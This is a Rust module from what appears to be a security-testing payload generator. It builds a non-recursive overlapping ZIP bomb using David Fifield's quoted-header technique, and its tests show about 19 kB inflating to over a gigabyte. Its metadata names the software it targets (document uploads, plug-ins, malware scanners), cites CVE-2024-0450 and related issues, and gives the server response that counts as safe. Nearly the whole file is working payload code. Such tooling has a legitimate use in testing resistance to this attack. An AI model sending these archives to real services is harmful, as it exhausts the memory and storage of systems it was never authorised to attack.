//! A small ZIP archive of many large files that share their data.
//!
//! David Fifield, "A better zip bomb" (USENIX WOOT 2019), with quoted headers: each file begins with stored
//! blocks that hold the headers of all files after it, and all end in the same deflated zeros. Every file
//! has its own name, header and sum, and inflates without nesting.

use bytes::Bytes;

use super::zip::{CENTRAL, DEFLATED, Entry, LOCAL, end};
use crate::payload::pieces::once;
use crate::payload::zeros::{Deflated, crc_of_zeros};
use crate::payload::{About, Body, Family, Form, Group, Parameter, Takes, Turn, Values};

/// The family.
pub(super) const FAMILY: &Family = &Family {
    name: "zip-overlap",
    group: Group::Archives,
    about: About {
        summary: "A small ZIP archive of many large files that overlap.",
        provokes: "Everything that unpacks ZIP: uploads of documents, themes, plug-ins, malware scanners. The ratio \
                   passes the 1032 of deflate a thousandfold without nesting; unpackers that follow the directory are \
                   hit, those that stream from the start see one file.",
        seen: "David Fifield's zbsm.zip (42 kB to 5.5 GB); CVE-2024-0450 (Python's zipfile, quoted overlap), \
               nih-at/libzip issue 354, zip-rs/zip-old issue 228.",
        becomes: "100 files of 10 MB are 19 kB on the wire; a map of them takes 1.3 GiB in Java's ZipFile.",
        safe: "4xx: entries that overlap, or a sum of stated sizes over a limit; a limit while inflating.",
    },
    parameters: &[
        Parameter {
            name: "files",
            about: "files in the archive",
            takes: Takes::Count { least: 1, most: 8000, default: 100 },
        },
        Parameter {
            name: "size",
            about: "size of a file; the headers in it come on top",
            takes: Takes::Size { least: 1, most: 4_000_000_000, default: 10_000_000 },
        },
    ],
    form: Form::Body(make),
};

fn make(values: &Values, _: &Turn) -> Body {
    let archive = Archive::new(values.number("files"), values.number("size"));
    Body::new("application/zip", archive.size(), archive.chunks())
}

struct Archive {
    /// Sums of the files, the last one first.
    sums: Vec<u32>,
    zeros: u64,
}

/// All names are as long: four digits.
const HEADER: u64 = LOCAL + 4;
/// A stored block's type, length and complement.
const QUOTE: u64 = 5;

impl Archive {
    /// Each file's content begins with the header of the next, which states the sum of that one: the sums
    /// are found from the last file to the first.
    fn new(files: u64, zeros: u64) -> Self {
        let mut archive = Self { sums: vec![], zeros };
        let mut content = crc_of_zeros(zeros);
        for after in 0..files {
            archive.sums.push(content.clone().finalize());
            let mut longer = crc32fast::Hasher::new();
            longer.update(&archive.entry(after, files).local());
            longer.combine(&content);
            content = longer;
        }
        archive
    }

    fn files(&self) -> u64 {
        self.sums.len() as u64
    }

    /// The file that has so many after it, of so many.
    fn entry(&self, after: u64, files: u64) -> Entry {
        Entry {
            name: format!("{:04}", files - 1 - after),
            method: DEFLATED,
            crc: self.sums[after as usize],
            packed: after * (QUOTE + HEADER) + Deflated::zeros(self.zeros).size(),
            size: after * HEADER + self.zeros,
        }
    }

    /// Where the directory starts.
    fn start(&self) -> u64 {
        HEADER + (self.files() - 1) * (QUOTE + HEADER) + Deflated::zeros(self.zeros).size()
    }

    fn end(&self) -> Vec<u8> {
        end(self.files(), self.files() * (CENTRAL + 4), self.start())
    }

    fn size(&self) -> u64 {
        self.start() + self.files() * (CENTRAL + 4) + self.end().len() as u64
    }

    fn chunks(self) -> impl Iterator<Item = Bytes> + Send {
        let (zeros, end) = (self.zeros, self.end());
        let files = self.files();
        let archive = std::sync::Arc::new(self);
        let directory = std::sync::Arc::clone(&archive);
        let headers = (0..files).rev().flat_map(move |after| {
            let header = archive.entry(after, files).local();
            let length = header.len() as u16;
            // The block that quotes this header in the file before.
            let quote = [&[0][..], &length.to_le_bytes(), &(!length).to_le_bytes()].concat();
            once(if after + 1 < files { quote } else { vec![] }).chain(once(header))
        });
        let central = (0..files).rev().flat_map(move |after| {
            let offset = (files - 1 - after) * (HEADER + QUOTE);
            once(directory.entry(after, files).central(offset))
        });
        headers.chain(Deflated::zeros(zeros).chunks()).chain(central).chain(once(end))
    }
}

#[cfg(test)]
mod tests {
    use std::io::{Read, copy, sink};

    use super::*;

    fn wire(files: u64, zeros: u64) -> Vec<u8> {
        let archive = Archive::new(files, zeros);
        let size = archive.size();
        let wire: Vec<u8> = archive.chunks().flatten().collect();
        assert_eq!(wire.len() as u64, size);
        wire
    }

    /// A reader that follows the directory and checks nothing but sizes.
    fn unpacked(wire: &[u8]) -> Vec<(u64, u32)> {
        let number = |at: usize| u32::from_le_bytes(wire[at..at + 4].try_into().unwrap());
        let files = u16::from_le_bytes(wire[wire.len() - 12..][..2].try_into().unwrap());
        let mut at = number(wire.len() - 6) as usize;
        let read = |_| {
            let (crc, packed, size, local) = (number(at + 16), number(at + 20), number(at + 24), number(at + 42));
            assert_eq!(wire[at..at + 4], *b"PK\x01\x02");
            at += (CENTRAL + 4) as usize;
            let data = &wire[local as usize + HEADER as usize..][..packed as usize];
            assert_eq!(wire[local as usize..][..4], *b"PK\x03\x04");
            let mut sum = flate2::CrcReader::new(flate2::read::DeflateDecoder::new(data));
            assert_eq!(copy(&mut sum, &mut sink()).unwrap(), u64::from(size));
            assert_eq!(sum.crc().sum(), crc);
            (size.into(), crc)
        };
        (0..files).map(read).collect()
    }

    #[test]
    fn every_file_inflates_to_its_size_and_sum() {
        for (files, zeros) in [(1, 1), (2, 5), (3, 100_000), (250, 21_000)] {
            assert_eq!(unpacked(&wire(files, zeros)).len() as u64, files);
        }
    }

    #[test]
    fn a_real_reader_unpacks_the_last_file() {
        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(wire(1, 100_000))).unwrap();
        let mut file = Vec::new();
        archive.by_name("0000").unwrap().read_to_end(&mut file).unwrap();
        assert_eq!(file, vec![0; 100_000]);
    }

    #[test]
    fn a_gigabyte_is_under_20_kb() {
        let wire = wire(100, 10_000_000);
        assert!(wire.len() < 20_000, "{}", wire.len());
        assert!(unpacked(&wire).iter().map(|(size, _)| size).sum::<u64>() > 1_000_000_000);
    }
}
